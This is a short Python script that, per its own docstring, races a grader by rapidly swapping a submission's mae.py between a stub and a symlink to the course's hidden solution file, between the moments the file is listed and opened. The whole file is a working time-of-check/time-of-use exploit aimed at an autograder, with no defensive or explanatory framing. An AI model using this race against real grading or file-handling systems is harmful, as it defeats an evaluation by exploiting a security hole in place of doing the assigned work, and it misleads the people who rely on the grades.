"""A script: swaps a file of a submission for a link and back, between the moments when it is listed and opened.

python symlink_race.py SUBMISSION SECONDS COURSE
"""

import os
import sys
import time

folder, end, course = sys.argv[1], time.time() + float(sys.argv[2]), sys.argv[3]
flips = 0


def spin(seconds):
    until = time.perf_counter() + seconds
    while time.perf_counter() < until:
        pass


while time.time() < end:
    with open(folder + "/.t1", "w") as stream:
        stream.write("def mae(a,b): return 1.0\n")
    os.symlink(course + "/solutions/m05_losses/mae.py", folder + "/.t2")
    os.rename(folder + "/.t1", folder + "/mae.py")
    spin(0.0003)
    os.rename(folder + "/.t2", folder + "/mae.py")
    spin(0.0001)
    flips += 1
print("flips", flips)
